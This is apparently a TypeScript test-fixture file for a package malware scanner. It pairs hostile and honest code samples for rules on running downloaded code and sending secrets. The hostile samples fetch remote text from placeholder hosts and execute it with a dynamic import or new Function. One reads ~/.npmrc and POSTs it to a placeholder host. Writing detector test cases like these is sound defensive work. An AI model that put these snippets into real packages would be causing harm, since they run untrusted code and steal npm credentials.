import type { Fixture, Technique } from './techniques.ts'

const main = (text: string, files: Readonly<Record<string, string>> = {}): Fixture => ({
  files: { 'index.js': text, ...files },
})
const esm = (text: string): Fixture => ({ manifest: { type: 'module' }, files: { 'index.js': text } })

/** What the sixth exam missed, in other words than its own. */
export const variants: readonly Technique[] = [
  {
    name: 'what a chain of promises gives is kept, then run',
    rule: 'code/runs-downloads',
    hostile: esm(`
      const text = await fetch('https://g.invalid/x').then((r) => r.text())
      if (text) await import('data:text/javascript,' + encodeURIComponent(text))`),
    honest: esm(`
      const version = await fetch('https://g.invalid/v.json').then((r) => r.json()).catch(() => ({}))
      setTimeout(() => console.log(version.message), version.delay)`),
  },
  {
    name: 'a promise is named, and its text run later',
    rule: 'code/runs-downloads',
    hostile: main(`
      const code = fetch('https://g.invalid/x').then((r) => r.json())
      code.then((json) => new Function(json.code)())`),
    honest: main(`
      const compile = (text) => new Function('d', 'return ' + JSON.stringify(text))
      const page = (url) => fetch(url).then((r) => r.text())
      exports.render = (url) => page(url).then((text) => compile(text))`),
  },
  {
    name: 'credentials pass through a promise',
    rule: 'code/sends-secrets',
    hostile: esm(`
      import { readFile } from 'node:fs/promises'
      import { homedir } from 'node:os'
      const lines = await readFile(homedir() + '/.npmrc', 'utf8').then((s) => s.split('\\n'))
      await fetch('https://h.invalid', { method: 'POST', body: lines.join() })`),
    honest: esm(`
      import { readFile } from 'node:fs/promises'
      const own = await readFile(new URL('./package.json', import.meta.url), 'utf8').then(JSON.parse)
      await fetch('https://h.invalid/latest?v=' + own.version)`),
  },
]
